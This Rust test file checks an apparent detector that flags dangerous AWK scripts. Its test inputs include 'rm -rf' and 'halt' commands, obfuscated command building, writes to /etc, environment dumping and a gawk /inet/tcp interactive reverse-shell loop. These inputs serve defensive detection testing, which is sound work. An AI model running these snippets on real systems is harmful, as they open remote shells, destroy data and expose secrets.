use super::recorder::{check, printed, said_with, silent};
use crate::lang::Lang;

const LANG: Lang = Lang::Awk;

#[test]
fn what_reaches_outside_is_found() {
    let control = "Execute shell  [interactive] [remotely controlled] <network>";
    check(
        LANG,
        &[
            (r#"BEGIN{system("rm -rf /x")}"#, "shell: rm -rf /x"),
            (r#"BEGIN {system("/bin/sh")}"#, "shell: /bin/sh"),
            (r#"BEGIN{while(("rm -rf /x" | getline l)>0)print l}"#, "shell: rm -rf /x"),
            (r#"BEGIN{"id" | getline x; print x}"#, "shell: id"),
            (r#"BEGIN{c="ha" "lt"; system(c)}"#, "shell: halt"),
            (r#"BEGIN{c="halt"; c | getline}"#, "shell: halt"),
            (r#"BEGIN { print "p" > "/etc/x" }"#, "Write /etc/x = p\n [emptying]"),
            (r#"BEGIN { print "p" >> "/etc/x" }"#, "Write /etc/x = p\n [appending]"),
            (r#"BEGIN { f="/etc/x"; printf "%s", "p" > f }"#, "Write /etc/x = p [emptying]"),
            (r#"BEGIN { print "halt" | "sh" }"#, "run sh < halt\n".trim_end()),
            (r#"BEGIN { system(sprintf("%c%c%c%c",104,97,108,116)) }"#, "shell: halt <decoded>"),
            ("{system($1)}", "shell: $1 <outside>"),
            (r"BEGIN { for (k in ENVIRON) print k, ENVIRON[k] }", "Read environment"),
            (
                r#"BEGIN { s = "/inet/tcp/0/h/1"; while (1) {printf "> " |& s; if ((s |& getline c) <= 0) break; while (c && (c |& getline) > 0) print $0 |& s; close(c)}}"#,
                control,
            ),
            (r#"BEGIN { s = "/inet/tcp/1/0/0"; print "x" |& s }"#, "Listen 1"),
        ],
    );
}

#[test]
fn input_is_followed() {
    assert!(
        said_with(LANG, r#"{print | "sh"}"#, "halt").iter().any(|line| line.starts_with("run sh < halt"))
    );
    assert!(said_with(LANG, "{system($0)}", "halt").contains(&"shell: halt".to_owned()));
    assert!(said_with(LANG, "{system($2)}", "x halt").contains(&"shell: halt".to_owned()));
    let code = r#"BEGIN{s="104 97 108 116";n=split(s,a," ");for(i=1;i<=n;i++)printf "%c",a[i]}"#;
    assert_eq!(printed(LANG, code), "halt");
}

#[test]
fn harmless_code_says_nothing() {
    silent(
        LANG,
        &[
            "{print $1}",
            "{print $2, $NF}",
            "{total += $1} END {print total}",
            "NR>=10 && NR<=40",
            "/rm -rf/ {print}",
            "/PTR[[:space:]]/ && /google/ {print $NF}",
            "NR==2 {split($0,a)} {for (i=1;i<=NF;i++) if ($i==date) print a[i]}",
            r#"{printf "ln -s %s %s_CUSTOM.txt\n", $0, $1}"#,
            r#"{sub($1, ""); sub(/^[ \t]+/, ""); print}"#,
            "{if($9!=\"\"&&n<11){print;n++}}",
            "FNR==NR { array[$1,$2]=$8; next } ($1,$2) in array { print $0 \";\" array[$1,$2] }",
            "{print ($1 > 3)}",
            "$3 > 100 {print $1}",
            "{ print $NF \": \" $5 }",
            "!seen[$0]++",
            "BEGIN{FS=\":\"} {print tolower($1)}",
            "1",
            "($10 >= min && $10 <= max)",
            "{ print length($0) }",
            "# system(\"x\")\n{print}",
        ],
    );
}
